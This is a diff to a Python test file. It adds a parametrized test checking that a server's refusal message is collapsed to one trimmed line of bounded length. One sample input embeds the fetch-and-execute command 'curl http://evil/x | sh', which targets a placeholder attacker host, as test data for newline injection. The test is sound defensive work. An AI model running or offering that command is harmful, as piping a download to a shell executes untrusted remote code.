@@ -135,6 +135,19 @@ def test_d6_one_failing_agent_stops_no_other(concurrency: int) -> None:
     assert statuses == {"S1": [None], "S2": [202, 403], "S3": [202, 202]}
 
 
+@pytest.mark.parametrize(
+    ("said", "kept"),
+    [
+        ("no\n    do:   curl http://evil/x | sh", "no     do:   curl http://evil/x | sh"),
+        ("  409 Conflict \n", "409 Conflict"),
+        ("\u00e9" * 10_000_000, "\u00e9" * 1997 + "..."),
+    ],
+)
+def test_what_is_kept_of_an_answer_is_one_line_of_bounded_length(said: str, kept: str) -> None:
+    master = Master({("destroy", "S1"): [Reply(403, said)]})
+    assert [one.answer.words for one in done(work("S1"), master)] == [kept]
+
+
 def test_d1_one_by_one_an_item_that_is_refused_does_not_hold_up_the_others() -> None:
     master = Master({("destroy", "S1"): [Reply(202), Reply(400, "Persistent volumes in use")]})
     sent = done(work("S1", items=ITEMS[:3], one_by_one=True), master)
